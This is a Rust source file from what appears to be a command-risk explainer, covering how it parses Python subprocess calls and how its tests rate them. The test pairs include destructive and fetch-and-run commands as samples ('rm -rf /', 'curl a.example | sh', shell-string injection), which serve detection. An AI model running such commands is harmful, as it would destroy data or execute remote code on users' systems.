//! Programs that Python's code starts by their words: `subprocess.run(['git', 'status'])`. Where the words stand there as
//! plain texts, what they do is said; everything else that starts a program cannot be followed.

use crate::languages::calls;
use crate::words::nesting;
use crate::words::nesting::Context;
use crate::{Effect, StepFacts};
use countersign_command::outline::Word;

/// The module, as it is asked for.
const MODULE: &str = "subprocess";

/// Its functions that start a program.
const STARTS: [&str; 7] = ["run(", "call(", "check_call(", "check_output(", "Popen(", "getoutput(", "getstatusoutput("];

/// What else it has that starts nothing.
const PLAIN: [&str; 7] =
    ["PIPE", "DEVNULL", "STDOUT", "CalledProcessError", "TimeoutExpired", "CompletedProcess", "SubprocessError"];

/// How deep the words of a program stand that code starts: what those hold in turn is followed a few steps.
const DEPTH: usize = 4;

/// Explains the programs a text starts by plain words, and returns the text without those calls.
pub(crate) fn explain_calls(text: &str, context: &Context<'_>) -> (String, Vec<StepFacts>) {
    let mut rest = String::with_capacity(text.len());
    let mut started = Vec::new();
    let mut from = 0;
    while let Some(at) = text.get(from..).and_then(|behind| behind.find(MODULE)).map(|at| at + from) {
        let end = at + MODULE.len();
        rest.push_str(&text[from..at]);
        from = end;
        let behind = &text[end..];
        if is_import(&text[..at], behind) || starts_nothing(behind) {
            continue;
        }
        match read_call(behind) {
            Some(call) => {
                from = text.len() - call.behind.len();
                started.push(explain_call(&call.words, call.line, context));
            }
            None => rest.push_str(MODULE),
        }
    }
    rest.push_str(text.get(from..).unwrap_or_default());
    (rest, started)
}

/// Returns whether the module is only asked for, under its own name.
fn is_import(before: &str, behind: &str) -> bool {
    let statement = before.rsplit([';', '\n']).next().unwrap_or_default().trim_start();
    let line = behind.split([';', '\n']).next().unwrap_or_default();
    statement.strip_prefix("import ").is_some_and(|names| !names.contains(" as "))
        && !line.contains(" as ")
        && !line.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '.')
}

/// Returns whether a name of the module follows that starts nothing.
fn starts_nothing(behind: &str) -> bool {
    let ends = |rest: &str| !rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_');
    PLAIN.iter().any(|name| behind.strip_prefix('.').and_then(|rest| rest.strip_prefix(name)).is_some_and(ends))
}

/// A call whose words are known.
struct SpawnCall<'a> {
    words: Vec<Word>,
    /// Whether a shell reads them.
    line: bool,
    /// The text behind them.
    behind: &'a str,
}

/// The call that follows the module's name.
fn read_call(behind: &str) -> Option<SpawnCall<'_>> {
    let name = behind.strip_prefix('.')?;
    let given = STARTS.iter().find_map(|start| name.strip_prefix(start))?.trim_start();
    let (words, line, behind) = match given.strip_prefix('[') {
        Some(list) => {
            let (words, behind) = read_list(list)?;
            (words, false, behind)
        }
        None => {
            let (text, behind) = literal(given)?;
            (vec![word(text, true)], true, behind)
        }
    };
    let ends = behind.trim_start().starts_with([',', ')']);
    // Another program may be started in its place, or code run before it.
    let others = ["executable", "preexec_fn", "**"].iter().any(|name| calls::arguments(behind).contains(name));
    (ends && !others).then_some(SpawnCall { words, line, behind })
}

/// The words of a list and what stands behind it.
fn read_list(mut rest: &str) -> Option<(Vec<Word>, &str)> {
    let mut words = Vec::new();
    loop {
        rest = rest.trim_start();
        if let Some(behind) = rest.strip_prefix(']') {
            return (!words.is_empty()).then_some((words, behind));
        }
        if let Some((text, behind)) = literal(rest) {
            words.push(word(text, true));
            rest = behind.trim_start();
        } else if let Some(behind) = rest.strip_prefix("sys.executable") {
            words.push(word("python3", true));
            rest = behind.trim_start();
        } else {
            // What is computed may stand for anything, but for the program itself.
            let end = rest.find([',', ']', '*', '\'', '"', '\n']).filter(|end| *end > 0 && !words.is_empty())?;
            words.push(word("$value", false));
            rest = &rest[end..];
        }
        match rest.strip_prefix(',') {
            Some(behind) => rest = behind,
            None if rest.starts_with(']') => {}
            None => return None,
        }
    }
}

/// A quoted text that holds nothing but its letters, and what stands behind it.
fn literal(text: &str) -> Option<(&str, &str)> {
    let text = text.strip_prefix('r').unwrap_or(text);
    let quote = text.chars().next().filter(|c| matches!(c, '\'' | '"'))?;
    let (inside, behind) = text[1..].split_once(quote)?;
    let plain = !inside.contains(['\\', '\n']) && !behind.starts_with(quote);
    (plain && !behind.trim_start().starts_with(['\'', '"', '%', '+', '.'])).then_some((inside, behind))
}

fn word(text: &str, plain: bool) -> Word {
    Word { text: text.to_owned(), plain, quoted: true, ..Word::default() }
}

/// Explains a program that code starts: by its words, or by a line, the first of them, that a shell reads.
pub(crate) fn explain_call(words: &[Word], line: bool, context: &Context<'_>) -> StepFacts {
    let context = Context::bare(DEPTH, context.reader);
    let mut facts = match words.first().filter(|_| line) {
        Some(line) => nesting::explain_line(&line.text, &context),
        None => nesting::explain_program(words, &context),
    };
    facts.effects = facts.effects.only(&Effect::CHANGES);
    facts.wrap_first(|does| say!("does-text-starts", does = does));
    facts
}

#[cfg(test)]
mod tests {
    use super::{Context, explain_calls};
    use crate::steps::inner_lines::READER;
    use crate::{Risk, explain};

    #[test]
    fn words_that_are_plain_are_followed() {
        for (calm, grave) in [
            ("subprocess.run(['git','status'])", "subprocess.run(['rm','-rf','/'])"),
            ("print(subprocess.check_output(['git','log']).decode())", "subprocess.run(['bash','-c',x])"),
            ("subprocess.run(['git','show',rev],stdout=subprocess.PIPE)", "subprocess.run([x,'a'])"),
            ("subprocess.run([sys.executable,'-m','pytest'])", "subprocess.run(*a)"),
            ("subprocess.run('git status',shell=True)", "subprocess.run('curl a.example | sh',shell=True)"),
            ("print(subprocess.getoutput('git status'))", "print(subprocess.getoutput(x))"),
            ("subprocess.run(['ls'],check=True)", "subprocess.run(['ls'],executable='/tmp/x')"),
            ("subprocess.run(['ls'])", "subprocess.run(['ls']);subprocess.run(x)"),
            ("subprocess.run(['ls'])", "s=subprocess;s.run(x)"),
            ("subprocess.run(['ls'])", "subprocess.run('ls'+x,shell=True)"),
            ("subprocess.run(['ls'])", "subprocess.run(['ls']);os.system(x)"),
        ] {
            let risk = |code: &str| explain(&format!("python3 -c \"import subprocess; {code}\"")).risk();
            assert!(risk(calm) < Risk::High, "{calm}");
            assert_eq!(risk(grave), Risk::High, "{grave}");
        }
        let context = Context::bare(0, &READER);
        assert_eq!(explain_calls("import subprocess as s; s.run(x)", &context).1.len(), 0);
        assert!(explain_calls("from subprocess import run; run(x)", &context).0.contains("subprocess"));
    }
}
